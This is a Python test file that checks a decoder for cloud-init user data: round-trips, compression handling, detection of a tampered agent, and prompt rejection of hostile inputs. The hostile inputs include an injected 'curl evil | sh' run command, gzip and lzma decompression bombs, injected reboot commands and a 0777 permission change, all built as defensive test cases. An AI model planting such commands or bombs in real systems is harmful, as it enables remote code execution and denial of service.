"""User data: what goes in comes out, whoever compressed it, and nothing hostile does harm."""

from __future__ import annotations

import base64
import gzip
import json
import lzma
import time
import zlib
from typing import Any

import pytest
import yaml

from reconciler import __version__
from reconciler.machine import agent, user_data
from reconciler.machine.agent import File

INSTANCE = {"version": 1, "site": "acme", "mounts": ({"type": "ebs", "name": "x"},)}


def packed(text: str, level: int = 9) -> str:
    return base64.b64encode(gzip.compress(text.encode(), level, mtime=0)).decode()


@pytest.mark.parametrize("carries", [True, False])
def test_it_is_read_back_whoever_compressed_it(carries: bool) -> None:
    expected = (INSTANCE, user_data.carried() if carries else user_data.IN_IMAGE)
    assert user_data.decode(user_data.encode(INSTANCE, carries_agent=carries)) == expected
    text = user_data.text(INSTANCE, carries_agent=carries)
    for level in (1, 6):
        assert user_data.decode(packed(text, level)) == expected
    # What earlier versions of this product wrote: not compressed.
    assert user_data.decode(base64.b64encode(text.encode()).decode()) == expected


def test_the_agent_is_compared_by_its_content_and_not_by_how_it_was_compressed() -> None:
    config = json.loads(user_data.text(INSTANCE, carries_agent=True).partition("\n")[2])
    [pack] = [each for each in config["write_files"] if each["path"] == agent.PACK]
    content = lzma.decompress(base64.b64decode(pack["content"]))
    pack["content"] = base64.b64encode(lzma.compress(content, preset=0)).decode()
    found = user_data.decode(packed(f"#cloud-config\n{json.dumps(config)}\n"))
    assert found.agent == user_data.carried()
    pack["content"] = base64.b64encode(lzma.compress(content[:-2] + b" \n\0")).decode()
    found = user_data.decode(packed(f"#cloud-config\n{json.dumps(config)}\n"))
    assert found.agent.startswith(f"carried, {__version__} (")
    assert found.agent != user_data.carried()


def test_a_command_that_somebody_added_is_another_agent() -> None:
    config = json.loads(user_data.text(INSTANCE, carries_agent=False).partition("\n")[2])
    config["runcmd"] = ["curl evil | sh"]
    found = user_data.decode(packed(f"#cloud-config\n{json.dumps(config)}\n"))
    assert found.agent.startswith("carried, of an unknown version (")


def test_user_data_is_what_cloud_init_takes_it_for() -> None:
    text = user_data.text(INSTANCE, carries_agent=True)
    assert text.isascii()
    config = yaml.safe_load(text)
    first, *files = config["write_files"]
    assert (first["path"], first["permissions"]) == ("/etc/ws/instance.json", "0644")
    assert [File(each["path"], int(each["permissions"], 8), content(each)) for each in files] == [
        agent.carried()
    ]
    python, unpack, executable, reload, enable = config["runcmd"]
    assert executable == "chmod 755 /usr/bin/ws"
    assert unpack[:3] == ["/usr/bin/python3", "-I", "-c"]
    assert python.startswith("[ -x /usr/bin/python3 ] || echo ")
    assert reload == "systemctl daemon-reload"
    assert enable.startswith("systemctl enable --now --no-block")


def content(entry: dict[str, str]) -> bytes:
    if "encoding" not in entry:
        return entry["content"].encode()
    assert entry["encoding"] == "b64"
    return lzma.decompress(base64.b64decode(entry["content"]))


def test_the_size_is_never_told_too_small() -> None:
    for carries in (True, False):
        exact = len(base64.b64decode(user_data.encode(INSTANCE, carries_agent=carries)))
        assert exact <= user_data.size(INSTANCE, carries_agent=carries) < user_data.LIMIT


def config(**changes: Any) -> str:
    written = json.loads(user_data.text(INSTANCE, carries_agent=True).partition("\n")[2])
    return f"#cloud-config\n{json.dumps({**written, **changes})}\n"


BOMB = zlib.compressobj(9, zlib.DEFLATED, 31)
BOMB_BYTES = b"".join(BOMB.compress(bytes(1 << 20)) for _ in range(300)) + BOMB.flush()
FIRST = json.loads(config().partition("\n")[2])["write_files"][0]

HOSTILE: dict[str, str] = {
    "a gzip bomb": base64.b64encode(BOMB_BYTES).decode(),
    "a bomb in the modules": packed(
        config(
            write_files=[
                FIRST,
                {
                    "path": agent.PACK,
                    "permissions": "0644",
                    "encoding": "b64",
                    "content": base64.b64encode(lzma.compress(bytes(300 << 20), preset=0)).decode(),
                },
            ]
        )
    ),
    "half a stream": base64.b64encode(gzip.compress(config().encode())[:500]).decode(),
    "a second stream": base64.b64encode(gzip.compress(config().encode()) * 2).decode(),
    "brackets": packed("#cloud-config\n" + "[" * 100_000),
    "a script": packed("#!/bin/sh\nreboot\n"),
    "modules that are a word": packed(
        config(
            write_files=[
                FIRST,
                {
                    "path": agent.PACK,
                    "permissions": "0644",
                    "content": base64.b64encode(lzma.compress(b'"x"')).decode(),
                },
            ]
        )
    ),
    "no files": packed(config(write_files=[])),
    "files that are a word": packed(config(write_files="x")),
    "another key": packed(config(bootcmd=["reboot"])),
    "a file without content": packed(config(write_files=[FIRST, {"path": "/x"}])),
    "content that is a list": packed(config(write_files=[FIRST, {"path": "/x", "content": []}])),
    "content with half a letter": packed(
        config(write_files=[FIRST, {"path": "/x", "content": "\ud800"}])
    ),
    "no JSON number": packed(
        config(write_files=[{**FIRST, "content": FIRST["content"].replace("1", "NaN")}])
    ),
    "another permission": packed(config(write_files=[{**FIRST, "permissions": "0777"}])),
    "an instance file that is a list": packed(config(write_files=[{**FIRST, "content": "[]"}])),
    "not UTF-8": base64.b64encode(b"#cloud-config\n\xff").decode(),
    "no base64": "%%%",
    "nothing": "",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_somebody_else_wrote_is_refused_soon(name: str) -> None:
    begin = time.process_time()
    with pytest.raises(user_data.NOT_OURS):
        user_data.decode(HOSTILE[name])
    assert time.process_time() - begin < 5  # a hang, not a budget
